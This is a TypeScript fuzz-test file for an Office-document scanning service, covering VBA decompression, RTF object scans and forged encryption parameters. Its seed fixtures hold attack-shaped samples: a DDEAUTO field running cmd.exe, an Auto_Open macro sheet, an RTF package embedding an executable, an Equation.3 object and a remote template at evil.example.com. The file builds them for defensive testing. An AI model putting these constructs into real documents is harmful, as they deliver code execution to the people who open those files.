// Office: execute() turns any OLE2, OOXML or RTF look-alike into a well-formed output, and the parsers it is
// built on hold their own contracts: MS-OVBA decompression returns what it decoded (or OvbaError when strict),
// the dir stream and RTF scanners never throw.
import assert from 'node:assert/strict';
import { describe } from 'node:test';
import fc from 'fast-check';
import officeCrypto from 'officecrypto-tool';
import * as office from '../../src/services/office/index.js';
import { decompress, OvbaError } from '../../src/services/office/ovba.js';
import { scanRtf } from '../../src/services/office/rtf.js';
import { parseDir } from '../../src/services/office/vba-project.js';
import {
  autoOpenDocument, biffWorkbook, compressLiteral, docxParts, ole1Object, oleWith, packageNative, rtfWithObject, templateRel, tinyPe, wordStream,
  zipParts,
} from '../services/office/build.js';
import { withEncryptionAttributes } from '../services/office/encryption-info.js';
import { expectControlled, fuzzer, keepPrefix, mutatedInput, randomInput, type FuzzInput, type Seed } from './harness.js';
import { seed, strelkaSeeds, yaraxSeeds } from './seeds.js';
import { runService } from './service.js';

const built: Seed[] = [
  seed('macros.doc', autoOpenDocument()),
  seed('dde.doc', oleWith({ WordDocument: wordStream('\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \x14\x15'), '1Table': Buffer.alloc(512) })),
  seed('xlm.xls', oleWith({ Workbook: biffWorkbook([{ name: 'Sheet1', type: 0, state: 0 }, { name: 'Auto_Open', type: 1, state: 2 }]) })),
  seed('package.rtf', rtfWithObject(ole1Object('Package', packageNative('a.exe', tinyPe())), 'Package')),
  seed('equation.rtf', rtfWithObject(ole1Object('Equation.3', Buffer.alloc(64, 0x41)), 'Equation.3', '\\objupdate')),
  seed('template.docx', await zipParts(docxParts('<w:p><w:r><w:t>Hello</w:t></w:r></w:p>', templateRel('http://evil.example.com/t.dotm')))),
];
const seeds: Seed[] = [
  ...built,
  ...strelkaSeeds(['test.doc', 'test.docx', 'test.xls', 'test_classic.doc', 'test_pe_object.doc', 'test_password.docx', 'test_password.doc'], 96 * 1024),
  ...(await yaraxSeeds('vba', 4, 96 * 1024)),
  ...(await yaraxSeeds('olecf', 4, 96 * 1024)),
];
const MAGICS = ['\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'PK\x03\x04', '{\\rtf1'];
// Two passwords keep encrypted seeds from costing a full dictionary of slow key derivations each.
const CONFIG = { passwords: ['infected', 'password'] };

// An agile-encrypted package, and values for the attributes of its EncryptionInfo: the library derives keys
// from them before any password can fail. Spin counts between a million and the format's limit of ten
// million are left out: they are allowed, and cost tens of seconds per password by design.
const encrypted = officeCrypto.encrypt(await zipParts(docxParts('<w:p/>')), { password: 'infected' });
const ATTRIBUTES: Record<string, string[]> = {
  spinCount: ['0', '1', '100000', '10000001', '4294967295', '1e10', '-1', 'abc', '', ' 100000', '0x10', '1.5'],
  keyBits: ['0', '1', '128', '256', '4096', '-8', 'abc', '1e9'],
  saltSize: ['0', '1', '16', '65536', '-1'],
  blockSize: ['0', '1', '16', '17', '1e9'],
  hashSize: ['0', '1', '20', '64', '65536', '-1'],
  hashAlgorithm: ['SHA1', 'SHA512', 'MD5', 'X', ''],
  cipherAlgorithm: ['AES', 'DES', 'RC4', 'X', ''],
  cipherChaining: ['ChainingModeCBC', 'ChainingModeCFB', 'X'],
  saltValue: ['', 'AAAA', '!!!!', 'Sjiwa9DpbAgtT2U7FyJkfA=='],
};
const attributes = fc.dictionary(fc.constantFrom(...Object.keys(ATTRIBUTES)), fc.nat(), { minKeys: 1, maxKeys: 3 })
  .map((picks) => Object.fromEntries(Object.entries(picks).map(([k, i]) => [k, ATTRIBUTES[k]![i % ATTRIBUTES[k]!.length]!])));

const run = (input: FuzzInput) => runService(office, input.bytes, { fileType: 'document/office/word', fileName: 'sample.doc', config: CONFIG });

const property = fuzzer('office');

describe('fuzz: Office', () => {
  property('MS-OVBA decompression', fc.tuple(randomInput({ prefixes: [Uint8Array.of(1), compressLiteral(Buffer.from('Attribute VB_Name = "x"\r\n'))] }), fc.boolean()), ([input, strict]) => {
    try {
      assert.ok(Buffer.isBuffer(decompress(input.bytes, 0, { strict, maxOut: 1 << 20 })));
    } catch (e) {
      expectControlled(e, (x) => strict && x instanceof OvbaError, 'decompress');
    }
  }, { caseMs: 5000, runsFactor: 25 });
  property('dir stream records', randomInput({ maxLength: 2048 }), (input) => {
    parseDir(input.buffer);
  }, { caseMs: 5000, runsFactor: 25 });
  property('RTF object scan', mutatedInput(seeds.filter((s) => s.name.endsWith('.rtf'))), (input) => {
    scanRtf(input.buffer);
  }, { caseMs: 5000, runsFactor: 10 });
  property('execute on random bytes', randomInput({ prefixes: MAGICS }), run, { caseMs: 30_000, runsFactor: 2 });
  property('execute on mutated seeds', mutatedInput(seeds, { repair: keepPrefix(8) }), run, { caseMs: 30_000, weight: 4 });
  property('execute on forged encryption parameters', attributes, async (attrs) => {
    await runService(office, withEncryptionAttributes(encrypted, attrs), { fileType: 'document/office/passwordprotected', fileName: 'locked.docx', config: CONFIG });
  }, { caseMs: 30_000, runsFactor: 0.1 });
});
